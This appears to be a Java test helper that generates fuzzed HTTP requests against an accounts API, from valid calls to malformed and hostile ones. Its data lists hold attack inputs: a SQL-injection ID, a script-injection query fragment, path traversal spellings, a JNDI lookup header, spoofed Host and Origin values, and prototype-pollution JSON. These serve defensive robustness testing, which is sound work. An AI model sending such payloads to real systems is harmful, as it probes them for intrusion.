package app.zapiska.accounts;

import app.zapiska.accounts.ApiDescription.Operation;
import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Random;

/** Requests to every operation of the API, from right ones to such as only an attacker sends. */
final class GeneratedRequests {

    enum Kind {
        RIGHT,
        EDGE,
        WRONG_VALUE,
        BROKEN_BODY,
        OTHER_TYPE,
        WRONG_ID,
        QUERY,
        SPELLING,
        METHOD,
        HEADER
    }

    /** @param head the first line and the headers but those that say who it is */
    record Request(Operation operation, Kind kind, String head, byte[] body) {

        String method() {
            return head.substring(0, head.indexOf(' '));
        }

        boolean reads() {
            return List.of("GET", "HEAD", "OPTIONS").contains(method());
        }

        /** As much of it as fits into a line. */
        @Override
        public String toString() {
            var text = head.replace("\r\n", " ¶ ") + " ¶¶ " + new String(body, StandardCharsets.UTF_8);
            return operation.name() + " " + kind + ": "
                    + text.substring(0, Math.min(text.length(), 900)).replaceAll("\\p{Cntrl}", "·");
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();

    private static final List<String> IDS = List.of(
            "0",
            "-1",
            "1",
            "00",
            "1.0",
            "1e3",
            "abc",
            "null",
            "true",
            "9223372036854775807",
            "9223372036854775808",
            "99999999999999999999999",
            "999999999",
            "%31",
            "1%00",
            "%00",
            "1%20",
            "%D9%A1",
            "1%27%20or%201=1",
            "..",
            "%2e%2e",
            "%2f",
            "1%2f2",
            "*",
            "%7Bid%7D",
            "%F0%9F%8E%89",
            "%ff%fe",
            "%c0%ae",
            "1;a=b",
            ";",
            "a".repeat(3_000));

    private static final List<String> QUERIES = List.of(
            "%00",
            "%1b",
            "%ff",
            "%c0%af",
            "%ed%a0%80",
            "%E2%80%AE",
            "%zz",
            "%",
            "+",
            "a+b%2Bc",
            "%27",
            "%22%3E%3Cscript%3E",
            "",
            "0",
            "-1",
            "1e400",
            "9223372036854775808",
            "null",
            "true",
            "1999-12-31",
            "0000-00-00",
            "%2B999999999-12-31",
            "2026-02-30",
            "5056.00",
            "-0.01",
            "1e5",
            "%25",
            "_",
            "%5C",
            "a".repeat(4_200),
            "%D1%8F".repeat(500),
            "%C4%B0",
            "%EF%AC%80");

    private static final List<String> HEADERS = List.of(
            "Accept: text/html",
            "Accept: nonsense",
            "Accept: */*;q=0",
            "Accept: application/json;q=a",
            "Accept: ,",
            "Accept-Language: ;;;=",
            "Accept-Language: " + "x-".repeat(400),
            "Accept-Encoding: br;q=9, *;q=-1",
            "If-Match: \"v99999999999999999999\"",
            "If-Match: W/\"v0\", \"",
            "If-Match: " + "\"v1\",".repeat(300),
            "If-Match: ",
            "If-None-Match: *",
            "If-None-Match: \"\", W/, x",
            "If-Modified-Since: yesterday",
            "Range: bytes=0-1,5-,-99999999999999999999",
            "Expect: 200-ok",
            "Content-Encoding: gzip",
            "Content-Length: 0",
            "Idempotency-Key: ",
            "Idempotency-Key: " + "k".repeat(2_000),
            "Idempotency-Key: ключ",
            "Idempotency-Key: a-good-key-of-1",
            "X-HTTP-Method-Override: DELETE",
            "X-Forwarded-For: 127.0.0.99, 1.2.3.4",
            "X-Forwarded-Host: evil.example",
            "Forwarded: for=\"[::1]\";host=evil.example",
            "Origin: https://evil.example",
            "Origin: null",
            "Sec-Fetch-Site: cross-site",
            "Referer: https://evil.example/?a=%zz",
            "Cookie: session=; session=x; __Host-session=y",
            "Cookie: =;;;=\"",
            "Authorization: Bearer",
            "Authorization: Basic OnBhc3M=",
            "Authorization: Bearer " + "a".repeat(6_000),
            "Authorization: Negotiate \u00ff",
            "Upgrade: websocket",
            "Host: evil.example",
            "X-Requested-With: else",
            "X-Long: " + "h".repeat(7_000),
            "X-Folded: a\r\n b",
            "X-Word: ${jndi:ldap://x/a}",
            "traceparent: 00-zz-zz-zz",
            "tracestate: " + "a=b,".repeat(100));

    private static final List<String> METHODS = List.of(
            "GET",
            "HEAD",
            "POST",
            "PUT",
            "PATCH",
            "DELETE",
            "OPTIONS",
            "TRACE",
            "BREW",
            "PROPFIND",
            "get",
            "Post",
            "SEARCH",
            "LOCK");

    private static final List<String> TYPES = List.of(
            "",
            "Content-Type: text/plain",
            "Content-Type: application/x-www-form-urlencoded",
            "Content-Type: multipart/form-data; boundary=b",
            "Content-Type: multipart/form-data",
            "Content-Type: application/xml",
            "Content-Type: application/json; charset=utf-16",
            "Content-Type: application/json; charset=nonsense",
            "Content-Type: application/json;;=",
            "Content-Type: APPLICATION/JSON",
            "Content-Type: application/problem+json",
            "Content-Type: application/zip",
            "Content-Type: */*",
            "Content-Type: nonsense",
            "Content-Type: ",
            "Content-Type: application/json, text/plain",
            "Content-Type: text/html; charset=\"");

    private final Random random;
    private final GeneratedJson json;
    private final Map<String, Object> ids;

    GeneratedRequests(ApiDescription api, Random random, Map<String, Object> ids, String secret) {
        this.random = random;
        this.ids = ids;
        this.json = new GeneratedJson(api, random, ids, secret);
    }

    Request next(Operation operation, Kind kind) {
        var method = kind == Kind.METHOD ? one(METHODS) : operation.method();
        var path = "/api/v1" + EveryRouteTest.filledIn(operation.path(), kind == Kind.WRONG_ID ? withAWrongOne() : ids);
        var target = (kind == Kind.SPELLING ? spelled(path) : path) + query(operation, kind);
        var body = body(operation, kind);
        var lines = new ArrayList<>(List.of(method + " " + target + " HTTP/1.1", "Host: localhost"));
        var added = kind == Kind.HEADER ? one(HEADERS) : "";
        if (!added.startsWith("X-Requested-With")) {
            lines.add("X-Requested-With: zapiska");
        }
        if (operation.parameters().stream().anyMatch(one -> one.name().equals("If-Match"))
                && !added.startsWith("If-Match")) {
            lines.add("If-Match: " + (random.nextInt(8) == 0 ? "\"v0\"" : "*"));
        }
        if (!added.isEmpty()) {
            lines.add(added);
        }
        var type = kind == Kind.OTHER_TYPE
                ? one(TYPES)
                : operation.mediaType().isEmpty() ? "" : "Content-Type: " + operation.mediaType();
        if (!type.isEmpty()) {
            lines.add(type);
        }
        if (body.length > 0 && random.nextInt(12) == 0 && !added.startsWith("Content-Length")) {
            lines.add("Transfer-Encoding: chunked");
            body = chunked(body);
        } else if (added.startsWith("Content-Length")) {
            body = new byte[0];
        } else if (body.length > 0 || !operation.reads()) {
            lines.add("Content-Length: " + body.length);
        }
        return new Request(operation, kind, String.join("\r\n", lines), body);
    }

    /** What nobody can take for something that is meant: a field that nobody knows stands first, whatever comes after it. */
    Request neverMeant(Operation operation) {
        var request = next(operation, Kind.RIGHT);
        if (operation.body().isMissingNode()) {
            return request;
        }
        var rest = new String(written(json.wrong(operation)), StandardCharsets.UTF_8).substring(1);
        var body = ("{\"nobody\":1" + (rest.equals("}") ? "" : ",") + rest).getBytes(StandardCharsets.UTF_8);
        var head = request.head()
                .replaceFirst("\r\nTransfer-Encoding: chunked", "")
                .replaceFirst("\r\nContent-Length: \\d+", "");
        return new Request(operation, Kind.WRONG_VALUE, head + "\r\nContent-Length: " + body.length, body);
    }

    private Map<String, Object> withAWrongOne() {
        var changed = new java.util.HashMap<>(ids);
        changed.replaceAll((name, id) -> random.nextInt(3) > 0 ? one(IDS) : id);
        return changed;
    }

    private String query(Operation operation, Kind kind) {
        var parameters = new ArrayList<String>();
        for (var parameter : operation.inQuery()) {
            if (kind == Kind.QUERY ? random.nextInt(4) > 0 : random.nextInt(3) == 0) {
                var value = kind == Kind.QUERY && random.nextInt(3) > 0
                        ? one(QUERIES)
                        : URLEncoder.encode(json.right(parameter).asText(), StandardCharsets.UTF_8);
                parameters.add(parameter.name() + "=" + value);
            }
        }
        if (kind == Kind.QUERY) {
            switch (random.nextInt(6)) {
                case 0 -> parameters.addAll(List.copyOf(parameters));
                case 1 -> parameters.add(one(QUERIES));
                case 2 -> parameters.add("unknown=" + one(QUERIES));
                case 3 -> parameters.add("=&&;=" + one(QUERIES));
                default -> {}
            }
        }
        return parameters.isEmpty() ? "" : "?" + String.join("&", parameters);
    }

    private byte[] body(Operation operation, Kind kind) {
        if (operation.mediaType().equals("application/zip")) {
            var noise = new byte[random.nextInt(200)];
            random.nextBytes(noise);
            return random.nextBoolean()
                    ? noise
                    : ("PK\u0003\u0004" + one(GeneratedJson.WORDS)).getBytes(StandardCharsets.UTF_8);
        }
        if (operation.body().isMissingNode()) {
            // Of what nobody asked for.
            return kind == Kind.BROKEN_BODY || kind == Kind.OTHER_TYPE
                    ? one(GeneratedJson.WORDS).getBytes(StandardCharsets.UTF_8)
                    : new byte[0];
        }
        var known = EveryRouteTest.BODIES.get(operation.name());
        return switch (kind) {
            case WRONG_VALUE -> written(json.wrong(operation));
            case EDGE -> written(json.atTheEdge(operation));
            case BROKEN_BODY -> broken(written(json.right(operation)));
            default ->
                known != null && random.nextInt(3) > 0
                        ? written(JSON.valueToTree(known))
                        : written(json.right(operation));
        };
    }

    private static byte[] written(JsonNode tree) {
        try {
            return JSON.writeValueAsBytes(tree);
        } catch (JsonProcessingException impossible) {
            throw new IllegalStateException(impossible);
        }
    }

    private byte[] broken(byte[] right) {
        var text = new String(right, StandardCharsets.UTF_8);
        var inside = text.startsWith("{") && text.length() > 2 ? text.substring(1) : "\"a\":1}";
        var first = inside.split(":", 2)[0];
        return switch (random.nextInt(22)) {
            case 0 -> Arrays.copyOf(right, random.nextInt(right.length));
            case 1 -> ("{" + first + ":1," + inside).getBytes(StandardCharsets.UTF_8);
            case 2 -> (text + one(List.of(text, "x", "]", "\u0000", ","))).getBytes(StandardCharsets.UTF_8);
            case 3 -> ("{\"a\":".repeat(3_000) + "1" + "}".repeat(3_000)).getBytes(StandardCharsets.UTF_8);
            case 4 -> "[".repeat(20_000).getBytes(StandardCharsets.UTF_8);
            case 5 ->
                ("{\"id\":1,\"accountId\":1,\"version\":0,\"status\":\"x\",\"createdAt\":1,\"role\":\"owner\","
                                + inside)
                        .getBytes(StandardCharsets.UTF_8);
            case 6 -> text.getBytes(StandardCharsets.UTF_16);
            case 7 -> ("\uFEFF" + text).getBytes(StandardCharsets.UTF_8);
            case 8 -> flipped(right);
            case 9 -> ("{\"" + "n".repeat(60_000) + "\":1," + inside).getBytes(StandardCharsets.UTF_8);
            case 10 -> ("{\"a\":" + "1".repeat(5_000) + "," + inside).getBytes(StandardCharsets.UTF_8);
            case 11 -> ("{\"a\":\"" + "я".repeat(140_000) + "\"," + inside).getBytes(StandardCharsets.UTF_8);
            case 12 -> text.replace('"', '\'').getBytes(StandardCharsets.UTF_8);
            case 13 -> ("/*x*/" + text + "//").getBytes(StandardCharsets.UTF_8);
            case 14 -> text.replaceFirst("}$", ",}").getBytes(StandardCharsets.UTF_8);
            case 15 -> ("[" + text + "]").getBytes(StandardCharsets.UTF_8);
            case 16 ->
                one(List.of("null", "[]", "{}", "5", "\"x\"", "true", "", " ", "\u0000", "a=b"))
                        .getBytes(StandardCharsets.UTF_8);
            case 17 -> text.replaceAll("\"(\\w)", "\"\\\\u0000$1").getBytes(StandardCharsets.UTF_8);
            case 18 -> ("{\"__proto__\":{},\"constructor\":null,\"\":0," + inside).getBytes(StandardCharsets.UTF_8);
            case 19 -> inserted(right, new byte[] {(byte) 0xC0, (byte) 0x80});
            case 20 -> inserted(right, new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80});
            default -> inserted(right, new byte[] {(byte) random.nextInt(32)});
        };
    }

    private byte[] flipped(byte[] right) {
        var changed = right.clone();
        changed[random.nextInt(changed.length)] ^= (byte) (1 << random.nextInt(8));
        return changed;
    }

    private byte[] inserted(byte[] right, byte[] what) {
        var changed = new ByteArrayOutputStream();
        var at = random.nextInt(right.length);
        changed.write(right, 0, at);
        changed.writeBytes(what);
        changed.write(right, at, right.length - at);
        return changed.toByteArray();
    }

    private byte[] chunked(byte[] body) {
        var chunks = new ByteArrayOutputStream();
        for (int at = 0; at < body.length; ) {
            var size = Math.min(body.length - at, 1 + random.nextInt(30_000));
            chunks.writeBytes((Integer.toHexString(size) + "\r\n").getBytes(StandardCharsets.US_ASCII));
            chunks.write(body, at, size);
            chunks.writeBytes("\r\n".getBytes(StandardCharsets.US_ASCII));
            at += size;
        }
        chunks.writeBytes("0\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        return chunks.toByteArray();
    }

    /** Another way to write an address, which may lead to the same, to something else or nowhere. */
    private String spelled(String path) {
        var parts = path.substring(1).split("/");
        var at = random.nextInt(parts.length);
        var part = parts[at];
        parts[at] = switch (random.nextInt(20)) {
            case 0 -> "/" + part;
            case 1 -> part + ";x=1";
            case 2 -> ";" + part;
            case 3 -> part.toUpperCase(java.util.Locale.ROOT);
            case 4 -> "%" + Integer.toHexString(part.charAt(0)) + part.substring(1);
            case 5 -> "./" + part;
            case 6 -> part + "/..";
            case 7 -> "%2e/" + part;
            case 8 -> part + "/%2e%2e/" + part;
            case 9 -> part + "/%2E%2e%2f" + part;
            case 10 -> part + "%2F";
            case 11 -> part + "%00";
            case 12 -> part + "%20";
            case 13 -> part + ".";
            case 14 -> part + "%ff";
            case 15 -> "..%2f..%2f" + part;
            case 16 -> part + "%5c..%5c";
            case 17 -> part + ".json";
            case 18 -> "%25" + part;
            default -> part + "%c0%ae%c0%ae";
        };
        return "/" + String.join("/", parts) + one(List.of("", "", "/", "//", "/.", "#x", ";"));
    }

    private <T> T one(List<T> of) {
        return of.get(random.nextInt(of.size()));
    }
}
